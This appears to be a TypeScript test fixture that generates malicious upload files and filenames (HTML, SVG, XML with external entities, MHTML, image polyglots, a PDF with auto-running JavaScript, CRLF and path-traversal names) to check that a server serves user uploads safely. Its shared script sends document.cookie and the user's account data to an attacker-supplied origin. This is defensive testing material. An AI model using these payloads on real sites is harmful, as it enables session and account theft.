/** A file that is uploaded to do harm. */
export interface HostileFile {
  readonly name: string
  /** The type that its sender names. */
  readonly type: string
  readonly content: string | Uint8Array<ArrayBuffer>
  /** Whether the file does harm when a careless server sends it with its sender's type: such files prove that the test detects harm. */
  readonly acts?: true
}

/**
 * The attempts of each file: to report that it runs, to send what it sees to another server, and to make requests in its
 * reader's name.
 */
function scriptFor(evil: string): string {
  return [
    `console.log('it ran')`,
    `document.title='it ran'`,
    `fetch('${evil}/fetch?'+encodeURIComponent(document.cookie))`,
    `new Image().src='${evil}/image?'+encodeURIComponent(document.cookie)`,
    `fetch('/api/v1/users/me').then((answer)=>answer.text()).then((text)=>fetch('${evil}/account?'+text))`,
    `top.location='${evil}/top'`,
  ].join(';')
}

/** @param evil origin of the attacker's server */
export function hostileFiles(evil: string): HostileFile[] {
  const script = scriptFor(evil)
  const html = `<!doctype html><title>page</title><script>${script}</script>
<img src="${evil}/img" onerror="${script.replaceAll('"', '&quot;')}">
<link rel="stylesheet" href="${evil}/style.css"><iframe src="${evil}/frame"></iframe>
<meta http-equiv="refresh" content="0;url=${evil}/refresh"><form action="${evil}/form"></form>`
  const svg = `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="${script}">
<script>${script.replaceAll('&', '&amp;').replaceAll('>', '&gt;')}</script>
<image xlink:href="${evil}/svg-image" width="9" height="9"/><use href="${evil}/use.svg#a"/>
<style>@import url("${evil}/svg.css");</style>
<foreignObject width="99" height="99"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="${evil}/foreign"/></body></foreignObject>
<animate onbegin="console.log('it ran')" attributeName="x" dur="1s"/></svg>`
  const xhtml = `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title>
<script><![CDATA[${script}]]></script></head><body/></html>`
  const styled = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${evil}/style.xsl"?>
<!DOCTYPE a [<!ENTITY e SYSTEM "${evil}/entity">]><a xmlns:h="http://www.w3.org/1999/xhtml">&e;<h:script>${script.replaceAll('&', '&amp;').replaceAll('>', '&gt;')}</h:script></a>`
  const mhtml = `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"; type="text/html"\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: ${evil}/\r\n\r\n${html}\r\n--b--\r\n`
  const gif = `GIF89a/*\x01\x00\x01\x00\x80\x00\x00*/=1;${script}`
  const jpeg = bytes([0xff, 0xd8, 0xff, 0xfe, 0x00, 0x02], html, [0xff, 0xd9])
  const png = bytes([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a], html)
  const pdf = pdfThatActs(evil)
  return [
    { name: 'page.html', type: 'text/html', content: html, acts: true },
    { name: 'page.html', type: '', content: html },
    { name: 'page.htm', type: 'application/octet-stream', content: html },
    { name: 'page.xhtml', type: 'application/xhtml+xml', content: xhtml, acts: true },
    { name: 'page.xml', type: 'text/xml', content: xhtml, acts: true },
    { name: 'styled.xml', type: 'application/xml', content: styled },
    { name: 'styled.xslt', type: 'application/xslt+xml', content: styled },
    { name: 'feed.rss', type: 'application/rss+xml', content: styled },
    { name: 'drawing.svg', type: 'image/svg+xml', content: svg, acts: true },
    { name: 'drawing.svg', type: '', content: svg },
    { name: 'drawing.svgz', type: 'image/svg', content: svg },
    { name: 'archive.mhtml', type: 'multipart/related', content: mhtml },
    { name: 'archive.mht', type: 'message/rfc822', content: mhtml },
    { name: 'again.html', type: 'multipart/x-mixed-replace; boundary=b', content: mhtml },
    { name: 'paper.pdf', type: 'application/pdf', content: pdf, acts: true },
    { name: 'paper.pdf', type: '', content: pdf },
    { name: 'paper.html', type: 'text/html', content: `${pdf}\n${html}`, acts: true },
    { name: 'paper.pdf', type: 'application/pdf', content: `%PDF-1.7\n${html}` },
    { name: 'picture.gif', type: 'image/gif', content: gif },
    { name: 'script.js', type: 'text/javascript', content: gif },
    { name: 'script.mjs', type: 'application/javascript', content: script },
    { name: 'picture.jpg', type: 'image/jpeg', content: jpeg },
    { name: 'picture.jpg', type: 'text/html', content: jpeg, acts: true },
    { name: 'picture.png', type: 'image/png', content: png },
    { name: 'picture.png', type: 'image/png', content: html },
    { name: 'picture.webp', type: 'image/webp', content: svg },
    { name: 'picture.avif', type: 'image/avif', content: html },
    { name: 'words.txt', type: 'text/plain', content: html },
    {
      name: 'words.txt',
      type: 'text/plain; charset=utf-7',
      content: '+ADw-script+AD4-console.log(1)+ADw-/script+AD4-',
    },
    { name: 'table.csv', type: 'text/csv', content: html },
    { name: 'style.css', type: 'text/css', content: `@import url("${evil}/css")` },
    { name: 'film.mp4', type: 'video/mp4', content: html },
    { name: 'sound.ogg', type: 'audio/ogg', content: html },
    { name: 'both.png', type: 'image/png, text/html', content: html },
    { name: 'both.png', type: 'image/png;text/html', content: html },
    { name: 'unknown.bin', type: 'unknown/unknown', content: html },
    { name: 'data.json', type: 'application/json', content: html },
    { name: 'program.swf', type: 'application/x-shockwave-flash', content: html },
    { name: 'manifest.appcache', type: 'text/cache-manifest', content: `CACHE MANIFEST\n${evil}/` },
    ...HOSTILE_NAMES.map((name) => ({ name, type: 'text/html', content: html })),
    ...HOSTILE_NAMES.map((name) => ({ name, type: 'image/png', content: html })),
  ]
}

/** Names that have a meaning in headers, pages, paths or for readers. */
const HOSTILE_NAMES: readonly string[] = [
  'a"\r\nContent-Type: text/html\r\nX: ".png',
  'a\nSet-Cookie: sessionid=theirs\n.html',
  `'; filename=evil.html; x='`,
  '"><script>console.log("it ran")</script>.png',
  '<img src=x onerror=console.log(1)>.html',
  '../../../login.html',
  '..\\..\\login.html',
  'invoice\u202Elmth.gnp',
  'שלום\u2067.html',
  'файл 文件 🦜.html',
  'a\u0000.html',
  'a;b=c.png',
  '%0d%0aX: y.png',
  `${'long'.repeat(60)}.html`,
]

/** A PDF that opens a dialogue and calls another server when it is shown. */
function pdfThatActs(evil: string): string {
  const script = `app.alert("it ran"); this.submitForm("${evil}/submit"); app.launchURL("${evil}/launch");`
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (${script.replace(/[()]/g, '\\$&')}) >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /AA << /O << /S /URI /URI (${evil}/uri) >> >> >>`,
  ]
  let text = '%PDF-1.7\n'
  const offsets = objects.map((object, index) => {
    const offset = text.length
    text += `${index + 1} 0 obj\n${object}\nendobj\n`
    return `${String(offset).padStart(10, '0')} 00000 n \n`
  })
  const at = text.length
  const table = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.join('')}`
  return `${text}${table}trailer << /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${at}\n%%EOF`
}

function bytes(...parts: readonly (string | readonly number[])[]): Uint8Array<ArrayBuffer> {
  const all = parts.flatMap((part) => (typeof part === 'string' ? [...new TextEncoder().encode(part)] : part))
  return Uint8Array.from(all)
}
